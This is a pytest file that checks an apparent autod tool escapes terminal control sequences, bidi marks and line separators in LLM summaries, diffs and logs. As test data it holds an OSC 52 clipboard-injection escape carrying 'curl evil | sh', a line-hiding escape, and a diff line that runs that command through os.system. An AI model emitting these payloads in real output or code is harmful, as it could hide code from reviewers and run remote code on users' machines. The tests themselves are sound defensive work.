"""Terminal-safe output: what an LLM, a build log or a workspace file says can never drive the terminal."""

from __future__ import annotations

import io
import json
import logging
from pathlib import Path

import pytest

from autod import logs
from autod.cli import main as cli
from autod.cli.logview import LogFilter, run_logs
from autod.safety import termsafe
from autod.stores.state import State

OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"  # writes "curl evil | sh" to the reader's clipboard
HIDE_LINE = "\x1b[1A\x1b[2K"  # cursor up one line, erase it: hides the diff line above
HOSTILE = ["\x1b", "\x07", "\x9b", "\x85", "\u2028", "\u2029", "\u202e", "\u2066", "\u200f", "\u061c", "\x7f"]


def assert_inert(text: str) -> None:
    for ch in HOSTILE:
        assert ch not in text, f"{ch!r} reached the terminal"


def test_line_escapes_controls_newlines_bidi_and_separators() -> None:
    text = termsafe.line(f"a{OSC52}b\nc\td\x9b2Je\x85f\u2028g\u202eh")
    assert_inert(text)
    assert "\n" not in text and "\t" not in text
    assert text == "a\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07b\\nc\\x09d\\x9b2Je\\x85f\\u2028g\\u202eh"


def test_block_keeps_newlines_and_tabs_and_escapes_the_rest() -> None:
    assert termsafe.block(f"+x = 1\n\t{HIDE_LINE}-y\u202e") == "+x = 1\n\t\\x1b[1A\\x1b[2K-y\\u202e"


def test_plain_text_and_ordinary_unicode_pass_unchanged() -> None:
    text = "naïve café — 日本語 ✓ \\x1b literal backslash"
    assert termsafe.line(text) == text
    assert termsafe.block(text) == text


def test_json_text_escapes_but_keeps_the_same_values() -> None:
    record = {"event": f"x{OSC52}\x85\u2028\u2029\u202e\x9b\x7f", "n": 1}
    raw = json.dumps(record, ensure_ascii=False)
    safe = termsafe.json_text(raw)
    assert_inert(safe)
    assert json.loads(safe) == record


@pytest.fixture
def state_with_hostile_proposal(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    ws.mkdir()
    sd = tmp_path / "state"
    sd.mkdir()
    st = State(sd / "state.db")
    summary = f"fix add{OSC52}{HIDE_LINE}"
    plan = {"summary": summary, "edits": [], "verify": [], "report": None}
    event = {
        "source": "manual",
        "kind": "manual",
        "summary": "tests fail\u202eevil\u2028second line",
        "payload": {},
        "fingerprint": "f" * 16,
    }
    diff = (
        "diff --git a/src/calc.py b/src/calc.py\n--- a/src/calc.py\n+++ b/src/calc.py\n@@ -1 +1 @@\n"
        f"-    return a - b\n+    return a + b  # {HIDE_LINE}\n"
        "+import os; os.system('curl evil | sh')\x85NEL\n"
    )
    st.add_proposal(
        {
            "id": "p1",
            "cycle_id": "c1",
            "mode": "auto-debug",
            "event": json.dumps(event),
            "plan": json.dumps(plan),
            "diff": diff,
            "created_at": 1.0,
            "expires_at": 4e9,
        }
    )
    st.close()
    cfg = tmp_path / "autod.yaml"
    cfg.write_text(f"workspace: {ws}\nstate_dir: {sd}\n")
    return cfg


def test_proposals_print_the_llm_summary_event_and_diff_escaped(
    state_with_hostile_proposal: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert cli.main(["proposals", "-c", str(state_with_hostile_proposal)]) == 0
    out = capsys.readouterr().out
    assert_inert(out)
    assert "\\x1b]52;c;" in out and "\\x1b[1A\\x1b[2K" in out and "\\u202e" in out and "\\x85NEL" in out
    # the line the escape would have hidden is there, and U+2028 did not start a line of its own
    assert "+import os; os.system('curl evil | sh')" in out
    assert "second line" in next(ln for ln in out.split("\n") if "for:" in ln)


def test_history_and_status_print_summaries_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    ws, sd = tmp_path / "ws", tmp_path / "state"
    ws.mkdir()
    sd.mkdir()
    st = State(sd / "state.db")
    st.cycle_started("c1", "e1", "auto-debug", "fp", "check_failed", f"boom{OSC52}\u202e\x9b")
    st.close()
    cfg = tmp_path / "autod.yaml"
    cfg.write_text(f"workspace: {ws}\nstate_dir: {sd}\n")
    assert cli.main(["history", "-c", str(cfg)]) == 0
    assert cli.main(["status", "-c", str(cfg)]) == 0
    out = capsys.readouterr().out
    assert_inert(out)
    assert out.count("boom\\x1b]52;c;") == 2


def test_approve_and_reject_messages_are_escaped(
    state_with_hostile_proposal: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    answers = {
        "reject": {"ok": True, "proposal": "p1", "lesson": f"lesson{OSC52}"},
        "approve": {"ok": False, "proposal": "p1", "status": "rolled_back", "reason": f"\u202eok{HIDE_LINE}",
                    "edits": [{"path": "a\x1b[2K.py", "added": 1, "removed": 0}], "checks": []},
    }
    import autod.control.socket

    monkeypatch.setattr(autod.control.socket, "request", lambda settings, cmd, **kw: answers[cmd])
    cfg = str(state_with_hostile_proposal)
    assert cli.main(["reject", "p1", "-c", cfg]) == 0
    assert cli.main(["approve", "p1", "-c", cfg]) == 1
    captured = capsys.readouterr()
    assert_inert(captured.out + captured.err)
    assert "lesson\\x1b]52" in captured.out and "\\u202eok" in captured.err


def _log_record(path: Path, **fields: object) -> None:
    with path.open("a", encoding="utf-8") as fh:
        fh.write(json.dumps({"timestamp": "2024-01-01T00:00:00Z", "level": "info", **fields},
                            ensure_ascii=False) + "\n")


def test_logs_human_and_json_output_escape_c1_nel_separators_and_bidi(tmp_path: Path) -> None:
    log = tmp_path / "autod.jsonl"
    hostile = "CSI\x9b2J NEL\x85 LS\u2028 RLO\u202eevil"
    _log_record(log, event="check.failed", excerpt=hostile, phase="observe")
    for as_json in (False, True):
        out = io.StringIO()
        assert run_logs(log, follow=False, as_json=as_json, flt=LogFilter(), n=10, out=out) == 0
        text = out.getvalue()
        assert_inert(text)
        assert len(text.strip().split("\n")) == 1
        if as_json:
            assert json.loads(text)["excerpt"] == hostile


def test_the_json_log_file_escapes_nel_and_line_separators(tmp_path: Path) -> None:
    log = tmp_path / "logs" / "autod.jsonl"
    logs.configure_logging(level="info", file=log, stderr=False)
    try:
        logs.get_logger("autod.test").info("hostile", excerpt="a\x85b\u2028c\u2029d\u202ee\x9bf")
        logs.flush()
    finally:
        logs.configure_logging(level="info", file=None, stderr=False)
        logging.getLogger().handlers.clear()
    raw = log.read_text(encoding="utf-8")
    assert_inert(raw)
    assert "\\u0085" in raw and "\\u2028" in raw
    (line,) = raw.splitlines()  # str.splitlines splits at NEL and U+2028 too: none is left raw
    assert json.loads(line)["excerpt"] == "a\x85b\u2028c\u2029d\u202ee\x9bf"


def test_the_console_log_shows_hostile_values_escaped(capsys: pytest.CaptureFixture[str]) -> None:
    logs.configure_logging(level="info", file=None, stderr=True)
    try:
        log = logs.get_logger("autod.test")
        log.warning("check.failed", excerpt=f"boom{OSC52}{HIDE_LINE}\u202e\x85")
        log.warning(f"planned {OSC52}\u202e")  # an event text built from untrusted input
        logs.flush()
    finally:
        logs.configure_logging(level="info", file=None, stderr=False)
        logging.getLogger().handlers.clear()
    err = capsys.readouterr().err
    assert "check.failed" in err and "boom\\x1b]52;c;" in err and "planned \\x1b]52;c;" in err
    assert_inert(err)


def test_a_value_that_is_not_text_is_shown_by_its_text() -> None:
    from autod.safety.termsafe import block, line

    assert line(42) == "42" and block(42) == "42"
    assert line(ValueError("bad\x1b[2Jvalue\nnext")) == "bad\\x1b[2Jvalue\\nnext"
    assert block(ValueError("bad\x9bvalue\nnext")) == "bad\\x9bvalue\nnext"
